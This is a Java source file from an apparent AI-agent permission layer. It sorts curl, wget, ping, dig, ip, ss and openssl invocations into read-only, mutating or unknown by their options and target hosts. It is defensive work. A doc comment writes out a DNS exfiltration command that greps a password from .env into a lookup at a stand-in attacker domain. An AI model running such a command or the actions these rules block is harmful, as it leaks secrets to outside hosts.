package dev.oats.tools.shell;

import static dev.oats.tool.SideEffect.MUTATING;
import static dev.oats.tool.SideEffect.READ_ONLY;
import static dev.oats.tool.SideEffect.UNKNOWN;

import dev.oats.tool.SideEffect;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;

/** curl, wget, ping, ss, ip and openssl: read-only while they only fetch and show. */
final class NetworkRules {

  private static final String CURL_SHORT_VALUES = "AbcCdDeEFHKmoPQrtTuUwxXyYz";
  private static final Set<String> CURL_LONG_VALUES =
      Set.of(
          "--url",
          "--user-agent",
          "--cookie",
          "--cookie-jar",
          "--continue-at",
          "--data",
          "--data-ascii",
          "--data-binary",
          "--data-raw",
          "--data-urlencode",
          "--json",
          "--dump-header",
          "--referer",
          "--cert",
          "--cert-type",
          "--key",
          "--key-type",
          "--form",
          "--form-string",
          "--header",
          "--config",
          "--max-time",
          "--connect-timeout",
          "--output",
          "--output-dir",
          "--quote",
          "--range",
          "--upload-file",
          "--user",
          "--proxy",
          "--proxy-user",
          "--write-out",
          "--request",
          "--retry",
          "--retry-delay",
          "--retry-max-time",
          "--resolve",
          "--connect-to",
          "--cacert",
          "--capath",
          "--interface",
          "--limit-rate",
          "--max-filesize",
          "--max-redirs",
          "--trace",
          "--trace-ascii",
          "--stderr",
          "--libcurl",
          "--etag-save",
          "--etag-compare",
          "--hsts",
          "--alt-svc",
          "--mail-from",
          "--mail-rcpt",
          "--unix-socket",
          "--noproxy",
          "--oauth2-bearer",
          "--time-cond",
          "--proxy-header",
          "--request-target",
          "--aws-sigv4",
          "--variable");
  private static final Set<String> READ_METHODS = Set.of("GET", "HEAD", "OPTIONS");

  /** Options that send the request somewhere other than the URL's host. */
  private static final String[] CURL_REROUTES = {
    "--resolve",
    "--connect-to",
    "-x",
    "--proxy",
    "--preproxy",
    "--socks4",
    "--socks4a",
    "--socks5",
    "--socks5-hostname",
    "--unix-socket",
    "--abstract-unix-socket",
    "--doh-url",
    "--dns-servers",
    "--proxy1.0",
    "--haproxy-protocol",
    "-K",
    "--config",
    "--next",
    "-:"
  };

  private static final String WGET_SHORT_VALUES = "OoaeiBtTwQPlADIXU";
  private static final Set<String> WGET_LONG_VALUES =
      Set.of(
          "--output-document",
          "--output-file",
          "--append-output",
          "--execute",
          "--input-file",
          "--base",
          "--tries",
          "--timeout",
          "--wait",
          "--quota",
          "--directory-prefix",
          "--level",
          "--accept",
          "--reject",
          "--domains",
          "--user-agent",
          "--header",
          "--post-data",
          "--post-file",
          "--method",
          "--body-data",
          "--body-file",
          "--user",
          "--password",
          "--load-cookies",
          "--save-cookies",
          "--config",
          "--referer");

  private static final Set<String> IP_VALUE_FLAGS =
      Set.of("-n", "-netns", "-f", "-family", "-rc", "-rcvbuf", "-l", "-loops");
  private static final Set<String> IP_OBJECTS =
      Set.of(
          "a",
          "addr",
          "address",
          "r",
          "ro",
          "route",
          "l",
          "link",
          "n",
          "neigh",
          "neighbor",
          "neighbour",
          "rule",
          "ru",
          "netns",
          "maddr",
          "maddress",
          "mroute",
          "monitor");
  private static final Set<String> IP_READ_ACTIONS = Set.of("show", "list", "ls", "lst", "get");
  private static final Set<String> IP_WRITE_ACTIONS =
      Set.of(
          "add", "del", "delete", "change", "chg", "replace", "flush", "set", "append", "prepend",
          "exec", "save", "restore", "attach", "detach");

  private NetworkRules() {}

  static SideEffect curl(List<Word> words, CommandRule.Nested nested) {
    Arguments args = Arguments.parse(words, CURL_SHORT_VALUES, CURL_LONG_VALUES);
    if (args.opaque() || args.has(CURL_REROUTES)) {
      return UNKNOWN;
    }
    boolean sends =
        !args.has("-G", "--get")
            && args.has(
                "-d", "--data", "--data-ascii", "--data-binary", "--data-raw", "--data-urlencode");
    boolean uploads =
        args.has("-F", "--form", "--form-string", "-T", "--upload-file", "--json", "-Q", "--quote");
    boolean writesFiles =
        args.has("-O", "--remote-name", "--remote-name-all", "--output-dir", "-c", "--cookie-jar")
            || args.has("--libcurl", "--etag-save", "--hsts", "--alt-svc", "--ftp-create-dirs")
            || args.has("--mail-from", "--mail-rcpt")
            || writesOutsideStdout(args, "-o", "--output", "-D", "--dump-header")
            || writesOutsideStdout(args, "--trace", "--trace-ascii", "--stderr");
    boolean changesMethod =
        args.all("-X", "--request").stream()
                .anyMatch(
                    option -> !READ_METHODS.contains(option.valueText().toUpperCase(Locale.ROOT)))
            || args.all("-H", "--header").stream().anyMatch(NetworkRules::overridesMethod);
    if (sends || uploads || writesFiles || changesMethod || writesThroughWriteOut(args)) {
      return MUTATING;
    }
    // curl 8.3 reads every option again with --expand- in front (--expand-data is --data, with
    // variables expanded): judged here by none of the rules above, so each needs an approval.
    if (args.options().stream().anyMatch(option -> option.name().startsWith("--expand-"))) {
      return UNKNOWN;
    }
    List<Word> urls =
        Stream.concat(
                args.operands().stream(), args.all("--url").stream().map(Arguments.Option::value))
            .toList();
    return reachesOnlyAllowed(urls, nested) ? READ_ONLY : UNKNOWN;
  }

  static SideEffect wget(List<Word> words, CommandRule.Nested nested) {
    Arguments args = Arguments.parse(words, WGET_SHORT_VALUES, WGET_LONG_VALUES);
    if (args.opaque() || args.has("-e", "--execute", "--config", "-i", "--input-file")) {
      return UNKNOWN;
    }
    boolean sends =
        args.has("--post-data", "--post-file", "--body-data", "--body-file")
            || args.all("--method").stream()
                .anyMatch(
                    option -> !READ_METHODS.contains(option.valueText().toUpperCase(Locale.ROOT)));
    boolean writesFiles =
        args.has("-b", "--background", "--save-cookies", "--warc-file")
            || args.has("-r", "--recursive", "-m", "--mirror", "-p", "--page-requisites")
            || writesOutsideStdout(args, "-o", "--output-file", "-a", "--append-output");
    boolean toStdout =
        args.has("--spider")
            || args.all("-O", "--output-document").stream()
                .anyMatch(option -> Effects.isSinkOrStdout(option.value()));
    if (sends || writesFiles || !toStdout) {
      return MUTATING;
    }
    if (!args.options().stream().allMatch(option -> option.is(WGET_READ_OPTIONS))) {
      return UNKNOWN;
    }
    return reachesOnlyAllowed(args.operands(), nested) ? READ_ONLY : UNKNOWN;
  }

  /**
   * The wget options a fetch printed to stdout may use and still run at once. wget has many others
   * that act beyond the fetch ({@code --use-askpass=PROGRAM} runs a program before anything is
   * fetched; {@code --rejected-log}, {@code --hsts-file}, {@code --input-metalink}, {@code
   * --backups} write files), so an option not named here needs an approval. Long names match their
   * abbreviations, as wget reads them.
   */
  private static final String[] WGET_READ_OPTIONS = {
    "-q",
    "--quiet",
    "-v",
    "--verbose",
    "-n",
    "--no-verbose",
    "-d",
    "--debug",
    "-S",
    "--server-response",
    "--spider",
    "-O",
    "--output-document",
    "-o",
    "--output-file",
    "-a",
    "--append-output",
    "-T",
    "--timeout",
    "--dns-timeout",
    "--connect-timeout",
    "--read-timeout",
    "-t",
    "--tries",
    "-w",
    "--wait",
    "--waitretry",
    "--random-wait",
    "--retry-connrefused",
    "--retry-on-host-error",
    "--retry-on-http-error",
    "-U",
    "--user-agent",
    "--header",
    "--referer",
    "--method",
    "--content-on-error",
    "--save-headers",
    "--max-redirect",
    "--no-check-certificate",
    "--ca-certificate",
    "--ca-directory",
    "--https-only",
    "--secure-protocol",
    "-4",
    "--inet4-only",
    "-6",
    "--inet6-only",
    "--prefer-family",
    "--no-proxy",
    "--no-cookies",
    "--no-hsts",
    "--no-config",
    "--no-dns-cache",
    "--compression",
    "--limit-rate",
    "-Q",
    "--quota",
    "--progress",
    "--show-progress",
    "--no-iri",
    "--iri",
    "--local-encoding",
    "--remote-encoding",
    "--ignore-length",
    "--auth-no-challenge",
    "--http-user",
    "--http-password",
    "--user",
    "--password",
    "-c",
    "--continue"
  };

  /** ping carries data too ({@code -p} pads packets with a pattern): allowed hosts only. */
  static SideEffect ping(List<Word> words, CommandRule.Nested nested) {
    Arguments args = Arguments.parse(words, "cisItwWlpQMmTFN", Set.of());
    boolean bounded = args.has("-c") && !args.has("-f", "-p");
    boolean allowed =
        args.operands().stream()
            .allMatch(
                host -> nested.hosts().allows(AllowedHosts.Endpoint.ofAuthority(host.text(), 0)));
    return bounded && allowed && !args.opaque() ? READ_ONLY : UNKNOWN;
  }

  /**
   * dig, host and nslookup ask the machine's resolver, which is allowed; a server named in the
   * command ({@code dig @10.0.0.9}, {@code host name server}) is a connection like any other.
   */
  static SideEffect dig(List<Word> words, CommandRule.Nested nested) {
    if (asksForANameMadeAtRunTime(words)) {
      return UNKNOWN;
    }
    for (int i = 0; i < words.size(); i++) {
      Word word = words.get(i);
      String text = word.text();
      if (word.isOpaque() && (text.startsWith("@") || i == 0)) {
        return UNKNOWN;
      }
      if (text.equals("-f")
          || text.equals("-k")
          || text.startsWith("-f")
          || text.startsWith("-k")) {
        return UNKNOWN;
      }
      if (text.startsWith("@")) {
        int port = portOption(words);
        if (!nested.hosts().allows(AllowedHosts.Endpoint.ofAuthority(text.substring(1), port))) {
          return UNKNOWN;
        }
      }
    }
    return READ_ONLY;
  }

  /**
   * getent looks names up in the machine's databases, hosts through DNS among them: as for dig, the
   * names must be written out.
   */
  static SideEffect getent(List<Word> words, CommandRule.Nested nested) {
    return asksForANameMadeAtRunTime(words) ? UNKNOWN : READ_ONLY;
  }

  /**
   * Whether a name to look up is made by the shell when the line runs ({@code $(...)}, {@code
   * $VAR}, backticks). A lookup carries its name through the resolver to whoever serves the domain,
   * so {@code dig "x$(grep PASS .env).attacker.example"} hands a secret to the attacker's name
   * server whatever the output shows: the name must be one written out in the line.
   */
  private static boolean asksForANameMadeAtRunTime(List<Word> words) {
    return words.stream().anyMatch(Word::expanded);
  }

  private static int portOption(List<Word> words) {
    for (int i = 0; i < words.size(); i++) {
      String text = words.get(i).text();
      if (text.equals("-p") && i + 1 < words.size()) {
        try {
          return Integer.parseInt(words.get(i + 1).text());
        } catch (NumberFormatException e) {
          return -1;
        }
      }
      if (text.startsWith("-p") && text.length() > 2) {
        try {
          return Integer.parseInt(text.substring(2));
        } catch (NumberFormatException e) {
          return -1;
        }
      }
    }
    return 53;
  }

  /** {@code host name [server]} and {@code nslookup name [server]}. */
  static SideEffect lookup(List<Word> words, CommandRule.Nested nested) {
    if (asksForANameMadeAtRunTime(words)) {
      return UNKNOWN;
    }
    Arguments args = Arguments.parse(words, "cNRtWWp", Set.of());
    if (args.opaque() || words.stream().anyMatch(word -> word.text().startsWith("-port"))) {
      return UNKNOWN;
    }
    List<Word> operands = args.operands();
    if (operands.size() > 1
        && !nested.hosts().allows(AllowedHosts.Endpoint.ofAuthority(operands.get(1).text(), 53))) {
      return UNKNOWN;
    }
    return operands.size() > 2 ? UNKNOWN : READ_ONLY;
  }

  static SideEffect ss(List<Word> words, CommandRule.Nested nested) {
    Arguments args = Arguments.parse(words, "fADFN", Set.of("--diag", "--filter", "--query"));
    if (args.has("-K", "--kill", "-D", "--diag")) {
      return MUTATING;
    }
    return args.opaque() ? UNKNOWN : READ_ONLY;
  }

  static SideEffect ip(List<Word> words, CommandRule.Nested nested) {
    if (words.stream().anyMatch(word -> word.text().equals("-b") || word.text().equals("-batch"))) {
      return UNKNOWN;
    }
    List<String> operands =
        Arguments.leadingOperands(words, IP_VALUE_FLAGS, 2).stream()
            .map(word -> word.isOpaque() ? "<unknown>" : word.text())
            .toList();
    if (operands.isEmpty()) {
      return READ_ONLY;
    }
    if (!IP_OBJECTS.contains(operands.get(0))) {
      return UNKNOWN;
    }
    if (operands.size() == 1 || IP_READ_ACTIONS.contains(operands.get(1))) {
      return READ_ONLY;
    }
    return IP_WRITE_ACTIONS.contains(operands.get(1)) ? MUTATING : UNKNOWN;
  }

  static SideEffect openssl(List<Word> words, CommandRule.Nested nested) {
    if (words.isEmpty() || words.stream().anyMatch(Word::isOpaque)) {
      return UNKNOWN;
    }
    List<String> options =
        words.stream().skip(1).map(word -> normalizeOpensslOption(word.text())).toList();
    return switch (words.get(0).text()) {
      case "s_client" -> {
        if (options.stream()
            .anyMatch(Set.of("-sess_out", "-keylogfile", "-msgfile", "-writerand")::contains)) {
          yield MUTATING;
        }
        yield sClientTargetAllowed(words, nested) ? READ_ONLY : UNKNOWN;
      }
      case "x509" ->
          options.stream().anyMatch(Set.of("-out", "-signkey", "-writerand")::contains)
              ? MUTATING
              : READ_ONLY;
      case "version", "ciphers", "verify" -> READ_ONLY;
      default -> UNKNOWN;
    };
  }

  /**
   * Where {@code openssl s_client} connects: {@code -connect host:port}, a bare {@code host:port},
   * or localhost:4433 when neither is given; through {@code -proxy} when one is.
   */
  private static boolean sClientTargetAllowed(List<Word> words, CommandRule.Nested nested) {
    String target = "localhost:4433";
    for (int i = 1; i < words.size(); i++) {
      String option = normalizeOpensslOption(words.get(i).text());
      String value = i + 1 < words.size() ? words.get(i + 1).text() : "";
      int equals = words.get(i).text().indexOf('=');
      if (equals > 0) {
        value = words.get(i).text().substring(equals + 1);
      }
      switch (option) {
        case "-connect" -> target = value;
        case "-proxy", "-unix", "-bind", "-host", "-port", "-dane_tlsa_domain" -> {
          return false;
        }
        default -> {
          if (!option.startsWith("-") && option.contains(":") && i == 1) {
            target = option;
          }
        }
      }
    }
    return nested.hosts().allows(AllowedHosts.Endpoint.ofAuthority(target, 443));
  }

  /** OpenSSL takes {@code -out}, {@code --out} and {@code -out=file} alike. */
  private static String normalizeOpensslOption(String text) {
    String option = text.startsWith("--") ? text.substring(1) : text;
    int equals = option.indexOf('=');
    return equals > 0 ? option.substring(0, equals) : option;
  }

  /**
   * A header that asks the server to take the request as another method ({@code
   * X-HTTP-Method-Override: DELETE}), which many web frameworks honour on a GET or POST.
   */
  private static boolean overridesMethod(Arguments.Option header) {
    String text = header.valueText().strip();
    int colon = text.indexOf(':');
    if (colon < 0) {
      return false;
    }
    String name = text.substring(0, colon).strip().toLowerCase(Locale.ROOT);
    String method = text.substring(colon + 1).strip().toUpperCase(Locale.ROOT);
    return Set.of("x-http-method-override", "x-http-method", "x-method-override").contains(name)
        && !READ_METHODS.contains(method);
  }

  /** curl 8.3's {@code -w '%output{file}'} (and {@code %output{>>file}}) writes what follows. */
  private static boolean writesThroughWriteOut(Arguments args) {
    return args.all("-w", "--write-out").stream()
        .anyMatch(option -> option.valueText().contains("%output{"));
  }

  private static boolean writesOutsideStdout(Arguments args, String... names) {
    return args.all(names).stream().anyMatch(option -> !Effects.isSinkOrStdout(option.value()));
  }

  /**
   * Whether every URL is http or https to an allowed host. A URL with no host to check (none given,
   * globbing, another scheme such as {@code file:} or {@code gopher:}) is not.
   */
  private static boolean reachesOnlyAllowed(List<Word> urls, CommandRule.Nested nested) {
    return !urls.isEmpty()
        && urls.stream().allMatch(url -> url.isLiteral() && nested.hosts().allowsUrl(url.text()));
  }
}
